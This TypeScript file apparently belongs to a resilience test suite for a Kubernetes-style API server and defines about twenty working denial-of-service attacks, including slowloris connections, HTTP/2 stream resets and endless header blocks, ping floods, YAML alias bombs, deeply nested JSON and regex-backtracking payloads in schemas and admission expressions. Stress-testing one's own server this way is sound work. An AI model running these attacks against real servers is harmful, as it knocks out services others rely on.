// Attacks by hostile clients, each for a limited time. None of them needs more than one machine.

import { Buffer } from 'node:buffer';
import type { ClientHttp2Session } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import { connect as connectTls } from 'node:tls';
import { type Field, frame, frames, preface, requestFields } from '../http2-client.ts';
import { http1, http2, type Target } from './target.ts';

/** Attacks until the signal, and closes what it opened. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

const MAPS = '/api/v1/namespaces/default/configmaps';
const BIG = '/api/v1/namespaces/hostile/configmaps';

function head(line: string, ...more: string[]): string {
  return [`${line} HTTP/1.1`, 'Host: x', ...more, '', ''].join('\r\n');
}

const upgrade = head('GET /api/v1/namespaces/default/pods/p/exec', 'Connection: Upgrade', 'Upgrade: SPDY/3.1');
const webSocket = head(
  `GET ${MAPS}?watch=1`,
  ...['Connection: Upgrade', 'Upgrade: websocket', 'Origin: x'],
  ...['Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='],
);
const json = 'Content-Type: application/json';

/** Concurrent handshakes: they cost the attacker as much as the server, and would dominate the measurement. */
const TOGETHER = 10;

/** Keeps this many connections open, and replaces those that the server closes. */
export async function hold(
  signal: AbortSignal,
  count: number,
  open: () => TLSSocket | ClientHttp2Session,
): Promise<void> {
  const held: (TLSSocket | ClientHttp2Session)[] = [];
  while (!signal.aborted) {
    let opened = 0;
    for (let index = 0; index < count && opened < TOGETHER; index++) {
      if (held[index]?.destroyed === false) continue;
      held[index] = open();
      opened++;
    }
    await pause(signal, 50);
  }
  for (const each of held) each.destroy();
}

/** Repeatedly sends something over its own connection, and disconnects after a moment. */
async function repeat(target: Target, signal: AbortSignal, bytes: (round: number) => Buffer | string): Promise<void> {
  for (let round = 0; !signal.aborted; round++) {
    const sockets = Array.from({ length: 8 }, (_, index) => {
      const socket = http1(target, index % 2 === 0).resume();
      socket.write(bytes(8 * round + index));
      return socket;
    });
    await pause(signal, 30);
    for (const [index, socket] of sockets.entries()) {
      if (index % 3 === 0) socket.end();
      else socket.destroy();
    }
    await pause(signal, 10);
    for (const socket of sockets) socket.destroy();
  }
}

export async function pause(signal: AbortSignal, durationMs: number): Promise<void> {
  await sleep(durationMs, undefined, { signal }).catch(() => {});
}

/** HTTP/2 requests, several on each session, whose responses are never read. */
function unread(path: string, { method = 'GET', whole = true, streams = 400 } = {}): Attack {
  return (target, signal) =>
    hold(signal, 2, () => {
      const session = http2(target, { initialWindowSize: 0 });
      for (let index = 0; index < streams; index++) {
        const headers = { ':method': method, ':path': path, 'content-type': 'application/json' };
        session.request(headers, { endStream: whole }).on('error', () => {});
      }
      return session;
    });
}

/** Frames that no library would send, continuously. */
function rawFrames(make: (round: number) => Buffer): Attack {
  return (target, signal) =>
    hold(signal, 2, () => {
      const { cert, key } = target.credentials;
      const socket = connectTls({ port: target.port, rejectUnauthorized: false, cert, key, ALPNProtocols: ['h2'] });
      socket.on('error', () => {}).pause();
      socket.write(Buffer.concat([preface, frames.settings()]));
      let round = 0;
      const go = () => {
        while (!socket.destroyed && !signal.aborted && socket.write(make(round++)));
      };
      socket.on('drain', () => setTimeout(go, 5)).once('secureConnect', go);
      return socket;
    });
}

/** Small bodies that are expensive to process, one after another. */
function bodies(method: string, path: string, { type, body }: { type: string; body: () => string }): Attack {
  return async (target, signal) => {
    const session = http2(target);
    const text = body();
    while (!signal.aborted && !session.destroyed) {
      await new Promise<void>((resolve) => {
        const stream = session.request({ ':method': method, ':path': path, 'content-type': type });
        stream.on('error', () => {}).on('close', () => resolve());
        stream.resume().end(text);
      });
      await pause(signal, 5);
    }
    session.destroy();
  };
}

const listField: readonly Field[] = requestFields.map(([name, value]) => [name, name === ':path' ? '/version' : value]);
const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** A map whose aliases double nine times. */
function yamlBomb(): string {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x]'];
  for (let level = 1; level < 10; level++) {
    lines.push(
      `a${level}: &a${level} [${Array(9)
        .fill(`*a${level - 1}`)
        .join(', ')}]`,
    );
  }
  return `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n${lines.join('\n')}\n`;
}

/** A definition whose default is matched against a pattern with catastrophic backtracking in other engines. */
function definitionOfBombs(): unknown {
  const properties = Object.fromEntries(
    ['^(a+)+$', '^(a|aa)+$', '(.*a){20}', '^([a-z]+)*x$'].map((pattern, index) => [
      `p${index}`,
      { type: 'string', pattern, default: `${'a'.repeat(5_000)}!` },
    ]),
  );
  const duration = { type: 'string', format: 'duration', default: '1'.repeat(5_000) };
  const schema = { openAPIV3Schema: { type: 'object', properties: { ...properties, duration } } };
  return {
    metadata: { name: 'bombs.hostile.example' },
    spec: {
      group: 'hostile.example',
      scope: 'Namespaced',
      names: { plural: 'bombs', kind: 'Bomb' },
      versions: [{ name: 'v1', served: true, storage: true, schema }],
    },
  };
}

const webSocketFrame = (opcode: number, bytes: number) =>
  Buffer.concat([
    Buffer.from([0x80 | opcode, 0xff]),
    Buffer.from([0, 0, 0, 0]),
    uint32(bytes),
    Buffer.alloc(4 + bytes),
  ]);

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** By name. */
export const attacks: Readonly<Record<string, Attack>> = {
  'requests sent ahead, upgrades among them': (target, signal) =>
    repeat(target, signal, (round) => {
      const texts = [
        head('GET /version') + upgrade,
        upgrade + upgrade,
        head(`GET ${MAPS}?watch=1`) + upgrade,
        head('GET /version') + webSocket,
        head('GET /version').repeat(300),
        head('GET /version') + head('CONNECT x:1'),
      ];
      return texts[round % texts.length]!;
    }),
  'requests broken off after every byte': (target, signal) => {
    const body = '{"metadata":{"generateName":"broken-"}}';
    const text = `${head('GET /version')}${head(`POST ${MAPS}?dryRun=All`, json, `Content-Length: ${body.length}`)}${body}${webSocket}`;
    return repeat(target, signal, (round) => text.slice(0, 1 + ((round * 7) % text.length)));
  },
  'heads that never end': (target, signal) =>
    hold(signal, 100, () => {
      const socket = http1(target, true);
      socket.write('GET /version HTTP/1.1\r\nHost: x\r\n');
      return socket;
    }),
  'bodies that never come, over HTTP/1.1': (target, signal) =>
    hold(signal, 100, () => {
      const socket = http1(target);
      socket.write(`${head(`POST ${MAPS}`, json, 'Content-Length: 3000000')}{`);
      return socket;
    }),
  'bodies that never come, over HTTP/2': unread(MAPS, { method: 'POST', whole: false }),
  'lists that nobody reads, over HTTP/2': unread(BIG),
  'watches that nobody reads, over HTTP/2': unread(`${BIG}?watch=1&resourceVersion=0`, { streams: 900 }),
  'lists and watches that nobody reads, over HTTP/1.1': (target, signal) =>
    hold(signal, 60, () => {
      const socket = http1(target).pause();
      socket.write(head(`GET ${BIG}`) + head(`GET ${BIG}?watch=1&resourceVersion=0`));
      return socket;
    }),
  'large messages and pings on web sockets': (target, signal) =>
    hold(signal, 10, () => {
      const socket = http1(target).pause();
      socket.write(webSocket);
      socket.write(webSocketFrame(2, 1_000_000));
      const pings = Buffer.concat(Array.from({ length: 1000 }, () => Buffer.from([0x89, 0x80, 0, 0, 0, 0])));
      const go = () => {
        while (!socket.destroyed && !signal.aborted && socket.write(pings));
      };
      socket.on('drain', () => setTimeout(go, 5));
      go();
      return socket;
    }),
  'streams that are opened and reset': rawFrames((round) => {
    const stream = 2 * round + 1;
    return Buffer.concat([frames.get(stream, listField), frames.reset(stream)]);
  }),
  'pings and settings on and on': rawFrames((round) => (round % 20 === 0 ? frames.settings([4, 0]) : frames.ping())),
  'a header block that never ends': rawFrames((round) =>
    round === 0 ? frame(1, 0, 1, Buffer.alloc(10)) : frame(9, 0, 1, Buffer.alloc(1000, 0x82)),
  ),
  'documents that nest': bodies('POST', MAPS, {
    type: 'application/json',
    body: () => `{"metadata":{"name":"nested"},"data":${nested(9_000)}}`,
  }),
  'YAML whose aliases multiply': bodies('POST', MAPS, { type: 'application/yaml', body: yamlBomb }),
  'patches of many operations': bodies('PATCH', `${BIG}/m0`, {
    type: 'application/json-patch+json',
    body: () =>
      JSON.stringify(
        Array.from({ length: 5_000 }, () => ({ op: 'copy', from: '/data', path: '/metadata/annotations' })),
      ),
  }),
  'merge patches that nest': bodies('PATCH', `${BIG}/m0`, {
    type: 'application/merge-patch+json',
    body: () => `{"data":${'{"a":'.repeat(9_900)}1${'}'.repeat(9_900)}}`,
  }),
  'bodies of 3 MB': bodies('POST', `${MAPS}?dryRun=All`, {
    type: 'application/json',
    body: () => `{"metadata":{"name":"large"},"data":{"a":"${'x'.repeat(900_000)}"},"x":[${'1,'.repeat(1_000_000)}1]}`,
  }),
  'names that patterns take long for': bodies('POST', `${MAPS}?dryRun=All`, {
    type: 'application/json',
    body: () => {
      const names = Array.from({ length: 500 }, (_, index) => [
        `${'a-'.repeat(100)}.${'1'.repeat(60)}${index}!`,
        '1h'.repeat(50),
      ]);
      return JSON.stringify({ metadata: { name: `${'a'.repeat(200)}!`, annotations: Object.fromEntries(names) } });
    },
  }),
  'definitions whose patterns take long': bodies(
    'POST',
    '/apis/apiextensions.k8s.io/v1/customresourcedefinitions?dryRun=All',
    {
      type: 'application/json',
      body: () => JSON.stringify(definitionOfBombs()),
    },
  ),
  'expressions that match without end': bodies(
    'POST',
    '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies?dryRun=All',
    {
      type: 'application/json',
      body: () => {
        const expression = `'${'a'.repeat(20_000)}!'.matches('^(a+)+$') && ${"'x'.matches('(x*)*y') || ".repeat(50)}true`;
        return JSON.stringify({ metadata: { name: 'bomb' }, spec: { validations: [{ expression }] } });
      },
    },
  ),
  'long headers of lists': (target, signal) =>
    repeat(target, signal, () =>
      head(
        'GET /version',
        `Accept: ${'*,'.repeat(10_000)}${'a/b,'.repeat(5_000)}`,
        `Connection: a${' '.repeat(10_000)}b`,
      ),
    ),
};
